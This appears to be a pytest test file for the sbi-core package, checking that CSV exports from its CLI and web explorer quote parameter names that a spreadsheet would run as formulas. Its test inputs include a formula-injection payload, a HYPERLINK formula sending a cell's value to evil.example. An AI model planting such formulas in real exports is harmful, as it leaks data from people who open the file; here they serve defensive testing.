"""CSV files sbi-core writes (``sbi-core sample``/``reference`` via ``write_samples_csv``, the
explorer's download) make a parameter name that a spreadsheet would run as a formula
(``=HYPERLINK(...)``, ``@SUM(...)``, ``+...``, ``-...``, a leading tab or carriage return)
a text cell by prefixing ``'``; numbers, negative ones included, are written unchanged."""

from __future__ import annotations

import csv
import io
import warnings

import numpy as np
import pytest
import torch

from sbi_core import fit, save, simulate
from sbi_core.cli.main import main
from sbi_core.display import from_spreadsheet_safe, shown, spreadsheet_safe
from sbi_core.io import read_samples_csv, write_samples_csv

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NAMES = [FORMULA, "@SUM(1+1)"]


@pytest.mark.parametrize("name", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "'=x"])
def test_formula_like_names_get_a_quote_and_come_back_exactly(name):
    safe = spreadsheet_safe(name)
    assert safe == "'" + name and from_spreadsheet_safe(safe) == name


@pytest.mark.parametrize("name", ["theta_1", "mu", "a=b", "x-1", "", "1e-3"])
def test_ordinary_names_are_unchanged(name):
    assert spreadsheet_safe(name) == name and from_spreadsheet_safe(name) == name


def test_write_samples_csv_neutralizes_names_not_numbers(tmp_path):
    samples = torch.tensor([[[-1.5, 2.0]], [[0.25, -3.0]]])  # (n=2, B=1, D=2)
    out = write_samples_csv(tmp_path / "s.csv", samples, ["-mu", "=1+1"])
    rows = list(csv.reader(open(out, newline="")))
    assert rows[0] == ["observation", "'-mu", "'=1+1"]
    assert rows[1:] == [["0", "-1.5", "2"], ["0", "0.25", "-3"]]
    names, data = read_samples_csv(out)
    assert names == ["-mu", "=1+1"]
    assert torch.equal(data, samples[:, 0])


@pytest.fixture(scope="module")
def formula_model(tmp_path_factory, linear_problem):
    """A tiny NPE on the 2-D linear Gaussian whose model file names its parameters with
    spreadsheet formulas."""
    root = tmp_path_factory.mktemp("formula")
    sims = simulate(linear_problem, 300, seed=0, progress=False)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        post = fit(linear_problem, sims, method="npe", seed=0, progress=False, max_epochs=2,
                   hidden_features=8, num_transforms=1)
    payload = torch.load(save(post, root / "m.pt"), weights_only=True)
    payload["problem"]["param_names"] = list(NAMES)
    torch.save(payload, root / "formula.pt")
    return root / "formula.pt"


def test_sample_cli_csv_header_of_formula_names_is_text(formula_model, tmp_path):
    np.savetxt(tmp_path / "x.csv", [[0.1, 0.2]], delimiter=",")
    assert main(["sample", str(formula_model), "--x", str(tmp_path / "x.csv"), "--num", "50",
                 "--seed", "0", "--out", str(tmp_path / "o.csv")]) == 0
    rows = list(csv.reader(open(tmp_path / "o.csv", newline="")))
    assert rows[0] == ["observation", "'" + FORMULA, "'@SUM(1+1)"]
    values = [c for r in rows[1:] for c in r[1:]]
    assert any(v.startswith("-") for v in values)  # negative numbers are written as numbers
    assert np.isfinite([float(v) for v in values]).all()  # every data cell still a number
    assert read_samples_csv(tmp_path / "o.csv")[0] == NAMES


def test_explorer_csv_download_neutralizes_formula_names(formula_model):
    from serve_helpers import explorer_page

    from sbi_core import load
    from sbi_core.server import create_app

    app = create_app({"m": load(formula_model)}, max_samples=200)
    with explorer_page(app) as (srv, page, errors):
        page.goto(srv.url + "/")
        page.wait_for_function("document.querySelector('#pairplot').dataset.updates === '1'")
        page.locator("#num").fill("20")
        page.wait_for_function("document.querySelector('#pairplot').dataset.sampleCount === '20'")
        with page.expect_download() as dl:
            page.locator("#download").click()
        rows = list(csv.reader(io.StringIO(open(dl.value.path()).read())))
    assert not errors, errors
    assert rows[0] == ["'" + shown(n) for n in NAMES]
    values = [c for r in rows[1:] for c in r]
    assert len(rows) == 21 and any(v.startswith("-") for v in values)
    assert all(not v.startswith("'") for v in values)  # numbers are never prefixed
    [float(v) for v in values]


def test_theta_csv_written_by_sbi_core_is_read_back_with_its_names(tmp_path):
    from sbi_core.cli.simulate_cmd import read_theta_file

    samples = torch.tensor([[[-1.0, 2.0]], [[3.0, -4.0]]])
    path = write_samples_csv(tmp_path / "t.csv", samples, ["-a", "b"], observation_index=False)
    assert open(path).readline().strip() == "'-a,b"
    theta = read_theta_file(path, param_names=["-a", "b"])
    assert theta.tolist() == [[-1.0, 2.0], [3.0, -4.0]]
